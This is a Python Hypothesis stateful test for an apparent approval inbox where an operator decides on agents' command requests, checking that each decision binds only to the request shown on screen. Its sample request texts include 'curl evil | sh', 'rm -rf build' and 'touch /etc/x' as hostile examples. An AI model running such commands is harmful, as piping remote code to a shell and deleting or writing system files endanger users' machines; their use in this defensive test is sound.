"""Whatever is re-sorted, ends, comes or is filtered between a key and its action: only what was shown is decided."""

from __future__ import annotations

from dataclasses import dataclass

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, precondition, rule

from console.fleet.decisions.inbox import Inbox, Shown
from console.fleet.facts import RequestKey, Seen
from console.fleet.gate import ARM_MS, Gated, gate
from console.fleet.state import Request
from tests.unit.fleet.scripted import ScriptedHost

TEXTS = ("make", "make test", "rm -rf build", "curl evil | sh", "touch /etc/x", "ls")
SESSIONS = ("s1", "s2", "s3")


@dataclass(frozen=True)
class Painted:
    """What stood on the screen when the key went down, copied."""

    shown: Shown
    text: str
    open: bool
    at: int


class Selection(RuleBasedStateMachine):
    def __init__(self) -> None:
        super().__init__()
        self.host = ScriptedHost()
        self.host.session("s1")
        self.host.session("s2", parent="s1")
        self.host.session("s3", parent="s2")
        self.inbox = Inbox(self.host.fleet)
        self.count = 0
        self.painted: Painted | None = None
        self.decided: set[RequestKey] = set()
        self.filtered = self.moved = False
        """The operator has moved the cursor, or filtered, since the paint."""
        for text in TEXTS:
            self.asks("s2", text, 1_000)
        self.paints()

    # --- the world -------------------------------------------------------------------------

    @rule(session=st.sampled_from(SESSIONS), text=st.sampled_from(TEXTS), later=st.integers(0, 5_000))
    def asks(self, session: str, text: str, later: int) -> None:
        self.count += 1
        self.host.now += later
        self.host.ask(f"r{self.count}", session, text=text)

    @rule(data=st.data(), how=st.sampled_from(["yes", "no", "expired", "withdrawn", "delisted"]))
    def ends(self, data: st.DataObject, how: str) -> None:
        waiting = self.host.fleet.queue.requests
        if not waiting:
            return
        request = data.draw(st.sampled_from(waiting))
        if how == "delisted":
            self.host.summary(request.key.session, requests=[])
        elif how in ("yes", "no"):
            self.host.decide(request.key.request, how)
        else:
            self.host.decide(request.key.request, None, state=how)

    @precondition(lambda self: self.painted is not None)
    @rule(text=st.sampled_from(TEXTS), how=st.sampled_from(["changes", "ends"]))
    def what_was_painted_becomes_another(self, text: str, how: str) -> None:
        assert self.painted is not None
        key = self.painted.shown.key
        request = self.host.fleet.requests.get(key)
        if request is not None and request.open and how == "changes":
            self.host.ask(key.request, key.session, text=text)
        elif request is not None and request.open:
            self.host.decide(key.request, "no")

    @rule(data=st.data(), text=st.sampled_from(TEXTS))
    def changes(self, data: st.DataObject, text: str) -> None:
        """Another text under the same id: another risk, so that lines change places."""
        waiting = [r for r in self.host.fleet.queue.requests if r.fact is not None]
        if waiting:
            request = data.draw(st.sampled_from(waiting))
            self.host.ask(request.key.request, request.key.session, text=text)

    @rule(cwd=st.sampled_from(["/srv/app", "/", "/home/x"]), session=st.sampled_from(SESSIONS))
    def moves_its_folder(self, cwd: str, session: str) -> None:
        self.host.summary(session, cwd=cwd)

    @rule()
    def lists_anew(self) -> None:
        self.inbox.refresh()

    # --- the operator ----------------------------------------------------------------------

    @rule(by=st.integers(-4, 4))
    def moves(self, by: int) -> None:
        self.inbox.move(by)
        self.moved = True

    @rule(data=st.data())
    def chooses(self, data: st.DataObject) -> None:
        if len(self.inbox):
            self.inbox.select(self.inbox.key(data.draw(st.integers(0, len(self.inbox) - 1))))
            self.moved = True

    @rule(words=st.sampled_from(["", "make", "high", "destructive", "s2", "nothing"]))
    def filters(self, words: str) -> None:
        self.inbox.filter(words)
        self.moved, self.filtered = True, bool(words)

    @rule()
    def paints(self) -> None:
        self.inbox.refresh()
        if self.inbox.selected is None:
            self.inbox.move(1)
        self.painted, self.moved = None, False
        self._all_that_waits_is_listed()
        selected = self.inbox.selected
        at = self.inbox.index(selected) if selected is not None else None
        if at is not None:
            row = self.inbox.row(at, self.host.now)
            self.painted = Painted(row.shown, row.line, row.open, self.host.now)

    def _all_that_waits_is_listed(self) -> None:
        waiting = {request.key for request in self.host.fleet.queue.requests}
        listed = {self.inbox.key(at) for at in range(len(self.inbox))}
        assert self.inbox.total == len(waiting)
        assert listed - waiting <= {self.inbox.selected}, "what has ended has a line only under the cursor"
        if not self.filtered:
            assert waiting <= listed

    @precondition(lambda self: self.painted is not None)
    @rule(later=st.integers(0, 1_000), option=st.sampled_from(["yes", "no"]))
    def decides(self, later: int, option: str) -> None:
        painted = self.painted
        assert painted is not None
        self.host.now += later
        found = self.inbox.target(painted.shown)
        request = self.host.fleet.requests.get(painted.shown.key)
        if not isinstance(found, Request):
            kept = request is not None and request.open and request.digest == painted.shown.digest and painted.open
            assert self.moved or not kept, f"refused without a reason: {found}"
            return
        assert found.key == painted.shown.key
        assert found.digest == painted.shown.digest
        assert found.fact is not None
        assert found.fact.actions[0].text == painted.text
        assert painted.open
        seen = Seen(painted.shown.digest, painted.at, whole=True)
        self.count += 1
        intent = self.host.decision(found.key, option, seen=seen)
        gated = gate(self.host.fleet, intent, self.host.now, arm_ms=ARM_MS)
        if isinstance(gated, Gated):
            assert gated.request == painted.shown.key
            assert gated.digest == painted.shown.digest
            assert found.key not in self.decided, "decided twice"
            self.decided.add(found.key)
            self.host.decide(found.key.request, option)

    # --- always ----------------------------------------------------------------------------

    @invariant()
    def the_cursor_is_on_a_line_or_nowhere(self) -> None:
        selected = self.inbox.selected
        assert selected is None or self.inbox.index(selected) is not None

    @invariant()
    def every_line_is_found_where_it_stands(self) -> None:
        for at in range(len(self.inbox)):
            assert self.inbox.index(self.inbox.key(at)) == at


TestSelection = Selection.TestCase
# 40 runs of 50 steps: two thousand rounds of everything that can come between a key and its action.
TestSelection.settings = settings(
    max_examples=40, stateful_step_count=50, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
